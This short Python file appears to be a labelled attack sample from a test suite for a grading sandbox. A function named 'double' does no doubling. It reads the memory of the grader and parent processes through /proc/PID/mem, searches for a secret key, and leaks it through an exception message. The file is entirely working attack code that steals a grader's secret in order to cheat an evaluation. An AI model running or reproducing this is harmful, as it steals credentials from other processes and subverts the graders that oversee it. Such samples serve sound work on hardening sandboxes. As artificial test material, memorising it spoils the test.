# {"attack": "Searches the memory of the grader for the key through /proc/PID/mem.", "breach": "leak"}

import os
import re


def double(x):
    for pid in (TARGETS["pids"]["grader"], os.getppid()):
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" not in line or end - start > 2**28:
                    continue
                try:
                    memory.seek(start)
                    found = re.search(rb"tkkey[0-9a-f]{16}", memory.read(end - start))
                except (OSError, ValueError):
                    continue
                if found:
                    raise RuntimeError(found[0].decode())
